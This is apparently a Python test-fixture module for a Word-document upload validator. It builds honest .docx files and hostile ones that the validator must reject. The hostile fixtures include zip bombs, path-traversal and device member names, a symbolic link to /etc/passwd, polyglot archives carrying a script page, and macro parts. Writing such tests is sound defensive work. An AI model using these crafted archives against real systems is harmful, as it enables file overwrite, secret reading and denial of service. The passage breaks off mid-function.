"""Word documents: honest packages of several programs, and those that are something else."""

import struct
import zipfile

from tests.files.containers import STORED, Member, compound, zipped
from tests.files.packages import (
    ACROBAT,
    BROWSER,
    BUTTON,
    DOCUMENT_RELS,
    DTD,
    EQUATION,
    EXCEL_97,
    HEADER,
    OFFICE,
    OLE,
    OTKLOADR,
    PACKAGER,
    PAINT,
    STRICT,
    WORD,
    archive,
    code,
    complex_field,
    content_types,
    docx,
    drawing,
    embedding,
    equation,
    flagged,
    gzipped,
    made_of,
    mark,
    old_workbook,
    override,
    packed_file,
    parts,
    records,
    relation,
    relationships,
    rels,
    story,
    text,
    with_body,
    with_object,
    with_part,
    word_document,
    word_part,
    workbook,
)
from tests.files.pictures import blank_png, half

# What every hostile file must be refused for, where its own kind is expected.
CODES = {
    "file_kind_refused": [
        "text.odt.docx",
        "book.epub.docx",
    ],
    "docx_not_word": [
        "sheet.xlsx.docx",
        "slides.pptx.docx",
        "template.dotx.docx",
        "unheard-of.docx",
        "archive.zip.docx",
        "program.jar.docx",
        "empty-archive.docx",
        "no-main-part.docx",
        "two-main-parts.docx",
        "main-part-abroad.docx",
    ],
    "docx_damaged": [
        "no-relationships.docx",
        "main-part-missing.docx",
        "wrong-root.docx",
        "no-xml.docx",
        "drawing-for-a-document.docx",
        "nothing-for-a-document.docx",
        "document-for-a-document.docx",
        "half-a-document.docx",
        "nested-too-deep.docx",
        "index-too-long.docx",
        "type-twice.docx",
        "truncated.docx",
        "wrong-checksum.docx",
        "name-twice.docx",
        "name-twice-escaped.docx",
        "bzip2.docx",
        "two-archives.docx",
        "page-in-front.docx",
        "page-behind.docx",
        "paper-in-front.docx",
        "archive-in-comment.docx",
        "archive-between.docx",
        "bytes-behind-a-member.docx",
        "headers-differ-in-name.docx",
        "headers-differ-in-size.docx",
        "headers-differ-in-method.docx",
        "two-names.docx",
        "overlapping-members.docx",
        "one-of-two-disks.docx",
        "more-members-than-announced.docx",
        "encoding-of-mainframes.docx",
        "encoding-of-seven-bits.docx",
        "damaged-object.docx",
    ],
    "docx_encrypted": [
        "locked-members.docx",
        "locked-strongly.docx",
        "masked-headers.docx",
    ],
    "docx_too_large_unpacked": [
        "many-bombs.docx",
    ],
    "docx_ratio_too_high": [
        "bomb.docx",
        "endless-comment.docx",
        "bomb-in-workbook.docx",
    ],
    "docx_unsafe_name": [
        "name-leads-up.docx",
        "name-leads-up-escaped.docx",
        "name-from-the-root.docx",
        "name-on-a-drive.docx",
        "name-of-a-stream.docx",
        "name-of-a-device.docx",
        "name-that-ends-in-a-dot.docx",
        "name-that-turns-around.docx",
        "named-like-a-macro-workbook.docx",
        "name-with-backslashes.docx",
        "name-with-control-character.docx",
        "name-too-long.docx",
    ],
    "docx_special_file": [
        "symbolic-link.docx",
        "device.docx",
    ],
    "docx_macros": [
        "macros.docm.docx",
        "macros-beside.docx",
        "macros-renamed.docx",
        "macros-by-relationship.docx",
        "macros-in-workbook.docx",
        "macros-in-old-workbook.docx",
        "macro-sheet.docx",
        "macro-sheet-by-relationship.docx",
        "macro-sheet-by-folder.docx",
        "macros-in-locked-workbook.docx",
        "macros-from-the-ribbon.docx",
    ],
    "docx_activex": [
        "control-field.docx",
        "activex.docx",
        "activex-by-relationship.docx",
        "activex-by-element.docx",
    ],
    "docx_program": [
        "program-as-picture.docx",
        "program-as-xml.docx",
        "script-as-text.docx",
        "shortcut.docx",
        "java.docx",
        "page-inside.docx",
        "named-like-a-program.docx",
        "named-like-a-package.docx",
        "page-that-windows-runs.docx",
        "notebook-with-files.docx",
        "encoded-script.docx",
        "program-in-object.docx",
        "program-in-archive.docx",
        "script-in-drawing.docx",
        "page-in-drawing.docx",
        "script-in-film.docx",
    ],
    "docx_object": [
        "packed-file.docx",
        "packed-file-spelt-otherwise.docx",
        "object-that-links.docx",
        "object-of-a-browser.docx",
        "object-of-a-form.docx",
        "object-of-a-helper.docx",
        "object-by-name.docx",
        "formula-that-overflows.docx",
        "formula-that-is-none.docx",
        "formula-missing.docx",
        "packed-file-in-workbook.docx",
        "locked-workbook.docx",
    ],
    "docx_nested": [
        "archives-in-archives.docx",
        "object-in-object.docx",
        "rar-inside.docx",
        "program-packed.docx",
        "program-packed-as-picture.docx",
        "tape-archive.docx",
        "disk-inside.docx",
    ],
    "docx_import": [
        "imports-page.docx",
        "imports-rich-text.docx",
        "imports-rich-text-as-plain.docx",
        "imports-mail-as-plain.docx",
        "imports-mail.docx",
        "imports-flat-xml.docx",
        "imports-by-other-means.docx",
    ],
    "docx_dtd": [
        "dtd-in-document.docx",
        "dtd-in-types.docx",
        "dtd-in-relationships.docx",
        "dtd-in-settings.docx",
        "dtd-in-inner-relationships.docx",
        "dtd-in-custom-xml.docx",
        "dtd-in-properties.docx",
        "dtd-in-drawing.docx",
        "dtd-in-binary.docx",
        "dtd-in-utf-16.docx",
        "dtd-after-comments.docx",
        "dtd-in-workbook.docx",
        "dtd-of-our-own-for-svg.docx",
    ],
    "docx_external": [
        "template-by-the-kernels-name.docx",
        "drawing-that-loads-a-file.docx",
        "drawing-that-loads-a-style.docx",
        "drawing-that-loads-by-style.docx",
        "packed-drawing-that-loads.docx",
        "includes-text-written-once.docx",
        "links-to-file-written-once.docx",
        "database.docx",
        "template-from-the-web.docx",
        "template-behind-this-machine.docx",
        "text-fetched-behind-a-tab.docx",
        "text-fetched-around-a-deletion.docx",
        "template-from-a-server.docx",
        "template-without-mode.docx",
        "linked-picture.docx",
        "picture-by-hyperlink.docx",
        "picture-of-1999.docx",
        "linked-object.docx",
        "frame-abroad.docx",
        "chapter-abroad.docx",
        "mail-merge.docx",
        "mail-merge-query.docx",
        "mode-in-capitals.docx",
        "includes-picture-of-a-server.docx",
        "includes-text.docx",
        "includes-picture-again.docx",
        "includes-picture-on-update.docx",
        "links-to-workbook.docx",
    ],
    "docx_unsafe_link": [
        "link-in-drawing.docx",
        "script-in-drawing-escaped.docx",
        "link-field-written-once.docx",
        "link-field-behind-a-switch.docx",
        "link-javascript.docx",
        "link-server.docx",
        "link-file-server.docx",
        "link-handler.docx",
        "link-search.docx",
        "link-escaped.docx",
        "link-in-field.docx",
        "link-in-old-drawing.docx",
    ],
    "docx_dde": [
        "dde.docx",
        "dde-simple.docx",
        "dde-in-pieces.docx",
        "dde-in-header.docx",
        "dde-in-header-called-picture.docx",
        "dde-in-footnote.docx",
        "dde-in-comment.docx",
        "dde-in-glossary.docx",
        "dde-in-part-of-another-type.docx",
        "dde-in-text-box.docx",
        "dde-quoted.docx",
        "dde-quoted-inside.docx",
        "dde-by-result.docx",
        "dde-between-deletions.docx",
        "dde-between-alternatives.docx",
        "dde-without-marks.docx",
        "dde-unfinished.docx",
        "dde-behind-spaces.docx",
        "dde-in-strict.docx",
        "dde-in-workbook.docx",
    ],
}


MICROSOFT = "http://schemas.microsoft.com/office"


def files():
    return honest_files() | hostile_archives() | hostile_packages() | hostile_contents()


def honest_files():
    """What Word, LibreOffice, Google, Pages, Java and .NET write, each its own way."""
    lines = [
        *("http://example.org/a?b=c#d", "https://example.org", "mailto:a@example.org"),
        *("tel:+4912345", "ftp://example.org/a.txt", "other.docx", "../a%20b.pdf", "#top", ""),
        *("file:///C:\\Users\\a\\My%20letter.docx", "D:\\maps\\a.pdf", "file:///Users/a/b.pdf"),
        *("consultantplus://offline/ref=0123", "onenote:https://example.org/notes"),
    ]
    hyperlinks = [relation("hyperlink", line, n, True) for n, line in enumerate(lines, 10)]
    hyperlinks.append(relation("hyperlink", "#_Toc1", 9))
    anchors = "".join(
        f'<w:hyperlink r:id="rId{n}"><w:r><w:t>a</w:t></w:r></w:hyperlink>'
        for n in range(10, 10 + len(lines))
    )
    drawing_link = '<wp:docPr id="1" name="a"><a:hlinkClick r:id="rId10"/></wp:docPr>'
    picture = '<w:drawing><wp:inline><a:blip r:embed="rId7"/></wp:inline></w:drawing>'
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h8v8z"/></svg>'
    public = (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    )
    potrace = public.replace("SVG 1.1", "SVG 20010904").replace(
        "Graphics/SVG/1.1/DTD/svg11", "TR/2001/REC-SVG-20010904/DTD/svg10"
    )
    plist = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
        '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>'
    )
    toc = complex_field(' TOC \\o "1-3" \\h ', complex_field(" PAGEREF _Toc1 \\h "))
    dde_words = (
        text("DDE and DDEAUTO are old. ")
        + text("DD")
        + '<w:bookmarkStart w:id="0" w:name="DDE_LINK1"/>'
        + text("E cmd.exe")
        + complex_field(" REF DDE_LINK1 \\h ")
        + complex_field(' HYPERLINK "https://example.org/dde/DDEAUTO" ')
        + complex_field(' TOC \\f DDE \\t "DDE;1" ')
        + complex_field(' INDEX \\c "DDE" ')
        + complex_field(' QUOTE "DDE is a protocol" ')
        + complex_field(" SEQ ", "DDE", " \\* ARABIC ")
        + '<w:fldSimple w:instr=" SEQ DDE \\* ARABIC "/>'
        + complex_field(" DDEFINITION ")
    )
    box = f"<w:txbxContent>{complex_field(' PAGE ')}</w:txbxContent>"
    alternate = (
        '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx>'
        f"{box}</wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict>"
        f'<v:shape id="a" style="width:9pt" href="https://example.org"><v:textbox>{box}</v:textbox>'
        '<v:imagedata r:id="rId7" o:title="a"/></v:shape>'
        "</w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )
    tracked = (
        mark("begin")
        + '<w:ins w:id="1" w:author="a"><w:r><w:instrText> PAGE </w:instrText></w:r></w:ins>'
        + '<w:del w:id="2" w:author="a"><w:r><w:delInstrText> DATE </w:delInstrText></w:r></w:del>'
        + mark("separate")
        + mark("end")
    )
    film = (
        '<w:drawing><wp:inline><wp15:webVideoPr embeddedHtml="&lt;iframe src=&quot;'
        "https://example.org/embed/a&quot; allowfullscreen=&quot;&quot;&gt;&lt;/iframe&gt;"
        '" h="9" w="9"/></wp:inline></w:drawing>'
    )
    media = {
        "word/media/image1.emf": b"\1\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF" + bytes(32),
        "word/media/image2.wmf": b"\xd7\xcd\xc6\x9a" + bytes(32),
        "word/media/image3.tiff": b"II*\0" + bytes(32),
        "word/media/image4.emz": gzipped(b"\1\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF" + bytes(32)),
        "word/media/image6.svgz": gzipped(
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
            b'<style>a { fill: url(#b) }</style><use x:href="#a"/>'
            b'<rect fill="url(&quot;#b&quot;)"/>'
            b'<image href="data:image/png;base64,AAAA"/><a href="https://example.org"/></svg>'
        ),
        "word/media/hdphoto1.wdp": b"II\xbc\x01" + bytes(32),
        "word/media/image5.tmp": blank_png(2, 2),
        "word/media/media1.mp4": b"\0\0\0\x18ftypmp42" + bytes(32),
        "docProps/thumbnail.jpeg": b"\xff\xd8\xff\xe0" + bytes(32),
    }
    guid = [bytes([n * 37 % 256]) for n in range(200)]
    wide = word_part(text("Größe")).replace("UTF-8", "UTF-16").encode("utf-16")
    embedded_word = docx({"word/document.xml": word_part(text("A chapter"))})
    settings = f"{WORD}.settings+xml"
    template = "attachedTemplate"
    add_in = (
        f'<we:webextension xmlns:we="{MICROSOFT}/webextensions/webextension/2010/11">'
        '<we:reference id="wa1" store="en-US" storeType="OMEX"/></we:webextension>'
    )
    letters = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:query w:val="SELECT * FROM a"/></w:mailMerge>'
    )
    return {
        "honest/biography.docx": docx(),
        "honest/stored.docx": docx(method=zipfile.ZIP_STORED),
        # ISO/IEC 29500 Strict: other namespaces, the same document. Word offers it.
        "honest/strict.docx": docx(
            {
                "_rels/.rels": relationships(
                    kind=STRICT + "/officeDocument/relationships/officeDocument"
                ),
                "word/document.xml": word_document(STRICT + "/wordprocessingml/main"),
            }
        ),
        # Other producers: an absolute target, capital letters, a type given by extension.
        "honest/absolute-target.docx": docx({"_rels/.rels": relationships("/Word/Document.xml")}),
        "honest/type-by-extension.docx": docx(
            {
                "[Content_Types].xml": content_types()
                .replace('"application/xml"', f'"{WORD}.document.main+xml"')
                .replace("/word/document.xml", "/word/other.xml")
            }
        ),
        # A picture, custom properties and a link beside the text.
        "honest/with-properties.docx": docx(
            {
                "_rels/.rels": relationships(
                    more='<Relationship Id="rId2" Target="docProps/core.xml" Type="http://schemas.'
                    "openxmlformats.org/package/2006/relationships/metadata/core-properties"
                    '"/>'
                ),
                "docProps/core.xml": HEADER + "<p/>",
                "word/media/image1.png": blank_png(8, 8),
            }
        ),
        # The archive as Java, .NET, Go and Word itself write it.
        "honest/data-descriptors.docx": made_of(every={"descriptor": "signed"}),
        "honest/descriptors-without-signature.docx": made_of(every={"descriptor": "bare"}),
        "honest/descriptors-of-64-bits.docx": made_of(every={"descriptor": "signed64"}),
        "honest/zip64.docx": made_of(every={"zip64": True}),
        "honest/padded-headers.docx": made_of(
            every={"extra": b"", "local_extra": b"\x20\xa2\x14\0\x28\xa0\x10\0" + bytes(16)}
        ),
        "honest/unix-times.docx": made_of(
            every={"extra": b"UT\x05\0\1" + bytes(4), "external": 0o100644 << 16}
        ),
        "honest/folders.docx": zipped(
            [
                Member("_rels/", method=STORED, external=0o40755 << 16 | 16),
                Member("word/", external=0o40755 << 16 | 16),
                *[Member(name, content) for name, content in reversed(parts().items())],
            ]
        ),
        "honest/archive-comment.docx": made_of(comment=b"made by a program with a name"),
        "honest/newline-behind.docx": made_of(behind=b"\n"),
        "honest/zeros-between.docx": made_of(Member("a.tmp", b"", behind=bytes(16))),
        # XML as .NET and others write it.
        "honest/byte-order-mark.docx": docx(
            {name: b"\xef\xbb\xbf" + content.encode() for name, content in parts().items()}
        ),
        "honest/utf-16.docx": docx({"word/document.xml": wide}),
        "honest/declared-utf-16.docx": docx(
            more=[("customXml/item1.xml", '<?xml version="1.0" encoding="utf-16"?><a/>')]
        ),
        "honest/without-declaration.docx": docx(
            {"word/document.xml": word_document().removeprefix(HEADER)}
        ),
        "honest/comment-before.docx": docx(
            {"word/document.xml": word_document(doctype="<!-- <!DOCTYPE --><?mso a?>\n")}
        ),
        # What stands beside the text.
        "honest/header.docx": story("header1", "header", text("Page ") + complex_field(" PAGE ")),
        "honest/footnotes.docx": story(
            "footnotes", "footnotes", f'<w:footnote w:id="1">{text("See there.")}</w:footnote>'
        ),
        "honest/comments.docx": story(
            "comments", "comments", f'<w:comment w:id="1">{text("Why?")}</w:comment>'
        ),
        "honest/glossary.docx": story(
            "glossary/document", "document.glossary", "<w:docParts/>", "glossaryDocument"
        ),
        "honest/alternate-content.docx": with_body(
            alternate,
            [relation("image", "media/image1.png")],
            more=[("word/media/image1.png", blank_png(8, 8))],
        ),
        "honest/embedded-font.docx": with_part(
            "word/fonts/font1.odttf", OFFICE + ".obfuscatedFont", b"".join(guid), "font"
        ),
        "honest/chart.docx": docx(
            {
                "[Content_Types].xml": content_types(
                    more='<Default Extension="xlsx" ContentType="'
                    f'{OFFICE}.spreadsheetml.sheet"/>'
                    + override("word/charts/chart1.xml", OFFICE + ".drawingml.chart+xml")
                ),
                DOCUMENT_RELS: rels(relation("chart", "charts/chart1.xml")),
                "word/charts/_rels/chart1.xml.rels": rels(
                    relation("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx")
                ),
                "word/charts/chart1.xml": '<c:chartSpace xmlns:c="urn:chart"/>',
            },
            [("word/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook())],
        ),
        "honest/chart-stored.docx": made_of(
            Member("word/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook(), method=STORED)
        ),
        "honest/presentation-with-chart.docx": embedding(
            archive(
                [
                    (
                        "[Content_Types].xml",
                        content_types(OFFICE + ".presentationml.slide.main+xml"),
                    ),
                    ("ppt/embeddings/a.xlsx", workbook()),
                ]
            ),
            "word/embeddings/a.pptx",
        ),
        # A workbook whose main part is no XML; its type says "macroEnabled", and it has none.
        "honest/binary-workbook.docx": embedding(
            archive(
                [
                    (
                        "[Content_Types].xml",
                        content_types(
                            "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
                        ).replace("/word/document.xml", "/xl/workbook.bin"),
                    ),
                    ("_rels/.rels", relationships("xl/workbook.bin")),
                    ("xl/workbook.bin", b"\x83\1\0\x80\1" + bytes(40)),
                ]
            ),
            "word/embeddings/a.xlsb",
        ),
        "honest/drawing-with-fallback.docx": with_body(
            picture,
            [relation("image", "media/image1.png"), relation("image", "media/image2.svg", 8)],
            {"word/media/image1.png": blank_png(8, 8), "word/media/image2.svg": svg},
        ),
        "honest/drawing-with-public-dtd.docx": docx({"word/media/image1.svg": public + svg}),
        "honest/drawing-with-dtd-of-2001.docx": docx({"word/media/image1.svg": potrace + svg}),
        "honest/mac-printer.docx": docx({"word/printerSettings1.bin": plist}),
        "honest/custom-xml.docx": docx(
            more=[
                (
                    "customXml/item1.xml",
                    '<?xml version="1.0"?><form><![CDATA[<!DOCTYPE a>]]></form>',
                ),
                ("customXml/item2.xml", "\ufeff<a>é</a>".encode("utf-16-le")),
                ("customXml/item3.xml", ""),
                (
                    "customXml/_rels/item1.xml.rels",
                    rels(relation("customXmlProps", "itemProps1.xml")),
                ),
            ]
        ),
        "honest/links.docx": with_body(anchors + drawing_link, hyperlinks),
        "honest/local-template.docx": docx(
            {
                "word/settings.xml": word_part('<w:attachedTemplate r:id="rId7"/>', "settings"),
                "word/_rels/settings.xml.rels": rels(
                    relation(template, "file:///C:\\Users\\a\\Templates\\Normal.dotm", 7, True)
                ),
            }
        ),
        "honest/templates-elsewhere.docx": docx(
            {
                "word/_rels/settings.xml.rels": rels(
                    relation(template, "file:////Users/a/Library/Normal.dotm", 7, True),
                    relation(template, "Macintosh%20HD:Users:a:Normal.dotm", 8, True),
                    relation(template, "Normal.dotm", 9, True),
                    relation(template, "/home/a/Normal.dotm", 10, True),
                )
            }
        ),
        "honest/fields.docx": with_body(
            toc
            + complex_field(" IF ", complex_field(" MERGEFIELD Sum "), ' > 0 "yes" "no" ')
            + complex_field(" EQ \\f(1,2) ")
            + complex_field(" SEQ Figure \\* ARABIC ")
            + complex_field(' HYPERLINK \\l "_Toc1" \\o "\\\\tip" ')
            + complex_field(' HYPERLINK "https://example.org" \\t "_blank" ')
            + complex_field(' DATE \\@ "d. MMMM yyyy" ')
            + complex_field(' LINK Excel.Sheet.12 "C:\\\\a\\\\b.xlsx" "Sheet1!R1C1" \\a \\f 0 ')
            + complex_field(' INCLUDETEXT "chapter.docx" ')
            + '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>9</w:t></w:r></w:fldSimple>'
            + tracked
            + mark("separate")
            + mark("end")
        ),
        "honest/words-about-dde.docx": with_body(dde_words),
        # Word writes this field for every picture that is pasted from a page.
        "honest/pasted-picture.docx": with_body(
            complex_field(' INCLUDEPICTURE "https://example.org/a.png" \\* MERGEFORMATINET ')
        ),
        "honest/mail-merge-letter.docx": docx(
            {"word/settings.xml": word_part(letters, "settings")}
        ),
        "honest/fields-to-update.docx": with_body(
            toc,
            changes={"word/settings.xml": word_part('<w:updateFields w:val="true"/>', "settings")},
        ),
        "honest/protected.docx": with_part(
            "word/settings.xml",
            settings,
            word_part('<w:documentProtection w:edit="forms" w:enforcement="1"/>', "settings"),
            "settings",
        ),
        "honest/content-controls.docx": with_body(
            '<w:sdt><w:sdtPr><w:alias w:val="control"/></w:sdtPr><w:sdtContent>'
            f"{text('Name')}</w:sdtContent></w:sdt>"
        ),
        "honest/signed.docx": docx(
            more=[
                ("_xmlsignatures/origin.sigs", ""),
                (
                    "_xmlsignatures/sig1.xml",
                    '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
                ),
            ]
        ),
        "honest/media-of-many-kinds.docx": docx(media),
        "honest/formula.docx": with_object(equation()),
        "honest/old-objects.docx": docx(
            more=[
                (
                    "word/embeddings/oleObject1.bin",
                    compound(
                        {"\x01Ole": OLE, "\x01Ole10Native": bytes(4) + b"BM" + bytes(60)}, PAINT
                    ),
                ),
                (
                    "word/embeddings/oleObject2.bin",
                    compound({"\x01Ole": OLE, "CONTENTS": b"%PDF-1.7\n" + bytes(5000)}, ACROBAT),
                ),
                ("word/embeddings/a.xls", compound({"Workbook": old_workbook(0)}, EXCEL_97)),
                ("word/embeddings/oleObject3.bin", compound({"Package": workbook()}, EXCEL_97)),
            ]
        ),
        "honest/old-drawing.docx": docx(
            more=[
                (
                    "word/drawings/vmlDrawing1.vml",
                    '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="#a"/></xml>',
                ),
                ("word/diagrams/data1.xml", "<dgm:dataModel xmlns:dgm='urn:a'/>"),
            ]
        ),
        "honest/long-names.docx": docx(
            {
                "word/media/" + "a-very-long-name-" * 14 + ".png": blank_png(8, 8),
                "word/media/Größe 100%25.png": blank_png(8, 8),
                "word/media/изображение.png": blank_png(8, 8),
                "[trash]/0000.dat": b"\xff\xff\xff\xff",
                "__MACOSX/word/._document.xml": b"\0\5\x16\7\0\2\0\0Mac OS X" + bytes(16),
            }
        ),
        "honest/chapters-merged.docx": docx(
            {
                "[Content_Types].xml": content_types(
                    more=f'<Default Extension="dat" ContentType="{WORD}.document.main+xml"/>'
                ),
                "word/document.xml": word_part('<w:altChunk r:id="rId7"/>'),
                DOCUMENT_RELS: rels(relation("aFChunk", "/word/chapter.dat")),
            },
            [("word/chapter.dat", embedded_word)],
        ),
        "honest/film.docx": with_body(film),
        "honest/add-in.docx": docx(
            more=[
                (
                    "word/webextensions/webextension1.xml",
                    add_in,
                )
            ]
        ),
    }


def hostile_archives():
    """Archives that two programs would read as two, or that exhaust one."""
    honest = docx()
    stored = docx(method=zipfile.ZIP_STORED)
    page = b"<html><script>alert(1)</script></html>"
    picture = {"name": "word/media/image1.png", "content": blank_png(8, 8)}
    bombs = [(f"word/media/{n}.bmp", bytes(1024 * 1024)) for n in range(51)]
    return {
        # The archive itself.
        "hostile/truncated.docx": half(honest),
        "hostile/wrong-checksum.docx": stored.replace(b"Biography", b"Biogrephy"),
        "hostile/name-twice.docx": docx(more=[("word/document.xml", word_document())]),
        "hostile/name-twice-escaped.docx": docx(more=[("word/d%6Fcument.xml", word_document())]),
        "hostile/bzip2.docx": docx(method=zipfile.ZIP_BZIP2),
        # Begins like one archive and is another: which one is opened depends on the program.
        "hostile/two-archives.docx": archive([("a.txt", "hello")]) + honest,
        "hostile/page-in-front.docx": b"PK\3\4" + made_of(front=b"PK\3\4" + page)[4:],
        "hostile/page-behind.docx": made_of(behind=page),
        "hostile/paper-in-front.docx": zipped(
            [
                Member("a.dat", b"%PDF-1.7\n", STORED),
                *[Member(name, content) for name, content in parts().items()],
            ]
        ),
        "hostile/archive-in-comment.docx": made_of(comment=honest),
        "hostile/archive-between.docx": made_of(Member("a.tmp", b"", behind=stored)),
        "hostile/bytes-behind-a-member.docx": made_of(Member(**picture, tail=page)),
        "hostile/headers-differ-in-name.docx": made_of(
            Member(**picture, local={"name": b"word/media/image2.png"})
        ),
        "hostile/headers-differ-in-size.docx": made_of(Member(**picture, local={"size": 7})),
        "hostile/headers-differ-in-method.docx": made_of(
            Member(**picture, local={"method": STORED})
        ),
        # A second name in an extra field, which half of all programs prefer.
        "hostile/two-names.docx": made_of(
            Member(**picture, extra=b"up\x0a\0\1" + bytes(4) + b"a.exe")
        ),
        # A member within another: the bytes of the inner one are unpacked twice.
        "hostile/overlapping-members.docx": zipped(
            [
                Member("a.dat", zipped([Member("b.dat", b"b", STORED)])[:40] + bytes(9), STORED),
                Member("b.dat", b"b", STORED, at=len("a.dat") + 30, listed_only=True),
                *[Member(name, content) for name, content in parts().items()],
            ]
        ),
        "hostile/one-of-two-disks.docx": made_of(end={"disk": 1}),
        "hostile/more-members-than-announced.docx": made_of(end={"here": 2, "count": 2}),
        "hostile/locked-members.docx": flagged(honest),
        "hostile/locked-strongly.docx": made_of(Member(**picture, flags=0x40)),
        "hostile/masked-headers.docx": made_of(Member(**picture, flags=0x2000)),
        # 51 MiB of zeros in 50 kB: as one part, and as parts that are each small enough.
        "hostile/bomb.docx": docx(more=[("word/media/zeros.bmp", bytes(51 * 1024 * 1024))]),
        "hostile/many-bombs.docx": docx(more=bombs),
        "hostile/bomb-in-workbook.docx": embedding(
            workbook(more=[("xl/media/zeros.bmp", bytes(2 * 1024 * 1024))])
        ),
        # A comment of 40 MB before the first element, in 38 kB.
        "hostile/endless-comment.docx": docx(
            {"word/document.xml": word_document(doctype="<!--" + " " * 40_000_000 + "-->")}
        ),
        # Names that lead elsewhere, or somewhere else on another system.
        "hostile/name-leads-up.docx": docx(more=[("word/../../../a.png", "")]),
        "hostile/name-leads-up-escaped.docx": docx(more=[("word/%2e%2e/%2E%2E/a.png", "")]),
        "hostile/name-from-the-root.docx": docx(more=[("/etc/a.png", "")]),
        "hostile/name-on-a-drive.docx": docx(more=[("C:a.png", "")]),
        "hostile/name-of-a-stream.docx": docx(more=[("word/document.xml::$DATA", "")]),
        "hostile/name-of-a-device.docx": docx(more=[("word/NUL.xml", "")]),
        "hostile/name-that-ends-in-a-dot.docx": docx(more=[("word/document.xml.", "")]),
        "hostile/name-that-turns-around.docx": docx(more=[("word/a\u202egnp.exe", "")]),
        "hostile/name-with-backslashes.docx": made_of(Member("word\\media\\a.png")),
        "hostile/name-with-control-character.docx": made_of(Member("word/a\0.png")),
        "hostile/name-too-long.docx": docx(more=[("word/" + "a" * 600 + ".png", "")]),
        "hostile/symbolic-link.docx": made_of(
            Member("word/media/a.png", "/etc/passwd", external=0o120777 << 16)
        ),
        "hostile/device.docx": made_of(Member("word/media/a.png", external=0o20666 << 16)),
    }


def hostile_packages():
    """Packages of another kind, and such as lead nowhere."""
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    vba = "application/vnd.ms-office.vbaProject"
    return {
        # Honest files of another kind; each is called by its name.
        "hostile/sheet.xlsx.docx": docx(
            {"[Content_Types].xml": content_types(OFFICE + ".spreadsheetml.sheet.main+xml")}
        ),
        "hostile/slides.pptx.docx": docx(
            {"[Content_Types].xml": content_types(OFFICE + ".presentationml.presentation.main+xml")}
        ),
        "hostile/template.dotx.docx": docx(
            {"[Content_Types].xml": content_types(WORD + ".template.main+xml")}
        ),
        "hostile/unheard-of.docx": docx({"[Content_Types].xml": content_types("text/xml")}),
        "hostile/text.odt.docx": archive(
            [("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>")],
            zipfile.ZIP_STORED,
        ),
        "hostile/book.epub.docx": archive(
            [("mimetype", "application/epub+zip")], zipfile.ZIP_STORED
        ),
        "hostile/archive.zip.docx": archive([("readme.txt", "hello")]),
        "hostile/program.jar.docx": archive([("META-INF/MANIFEST.MF", "Main-Class: A")]),
        "hostile/empty-archive.docx": archive([]),
        # The package leads nowhere, to two places, abroad, or to something that is no document.
        "hostile/no-relationships.docx": docx({"_rels/.rels": None}),
        "hostile/no-main-part.docx": docx({"_rels/.rels": relationships(kind="urn:other")}),
        "hostile/two-main-parts.docx": docx(
            {
                "_rels/.rels": relationships(
                    more='<Relationship Id="rId2" Target="word/b.xml" Type="'
                    f'{STRICT}/officeDocument/relationships/officeDocument"/>'
                )
            }
        ),
        "hostile/main-part-abroad.docx": docx(
            {"_rels/.rels": relationships().replace('Id="rId1"', 'Id="rId1" TargetMode="External"')}
        ),
        "hostile/main-part-missing.docx": docx({"word/document.xml": None}),
        "hostile/wrong-root.docx": docx({"word/document.xml": word_document(root="styles")}),
        "hostile/no-xml.docx": docx({"word/document.xml": "no XML at all"}),
        "hostile/drawing-for-a-document.docx": docx(
            {"word/document.xml": '<svg xmlns="http://www.w3.org/2000/svg"/>'}
        ),
        "hostile/nothing-for-a-document.docx": docx({"word/document.xml": b"\0\5\x16\7\0\2\0\0"}),
        "hostile/document-for-a-document.docx": docx(
            {"word/document.xml": docx(), DOCUMENT_RELS: rels(relation("aFChunk", "document.xml"))}
        ),
        "hostile/half-a-document.docx": docx({"word/document.xml": half(word_document())}),
        "hostile/nested-too-deep.docx": docx(
            {"word/document.xml": word_part("<w:p>" * 5000 + "</w:p>" * 5000)}
        ),
        "hostile/index-too-long.docx": docx(
            {
                "[Content_Types].xml": content_types(
                    more="<!--" + "" + "".join(f"{n:05d}" * 40 for n in range(5_500)) + "-->"
                )
            }
        ),
        "hostile/type-twice.docx": docx(
            {"[Content_Types].xml": content_types(more=override("word/document.xml", "text/xml"))}
        ),
        # Macros: by the type of the document, by the part, by the type of the part.
        "hostile/macros.docm.docx": docx({"[Content_Types].xml": content_types(macro)}),
        "hostile/macros-beside.docx": docx(more=[("word/vbaProject.bin", b"\xd0\xcf")]),
        "hostile/macros-renamed.docx": docx(
            {"[Content_Types].xml": content_types(more=override("word/theme.bin", vba))},
            [("word/theme.bin", b"\xd0\xcf")],
        ),
        "hostile/macros-by-relationship.docx": with_body(
            "",
            [
                relation(
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin"
                )
            ],
        ),
        "hostile/macros-in-workbook.docx": embedding(
            workbook([("xl/vbaProject.bin", b"\xd0\xcf")])
        ),
        "hostile/macros-in-old-workbook.docx": with_object(
            compound({"Workbook": old_workbook(0)}, EXCEL_97, ["_VBA_PROJECT_CUR"])
        ),
        # Excel's macros of 1992, in a sheet.
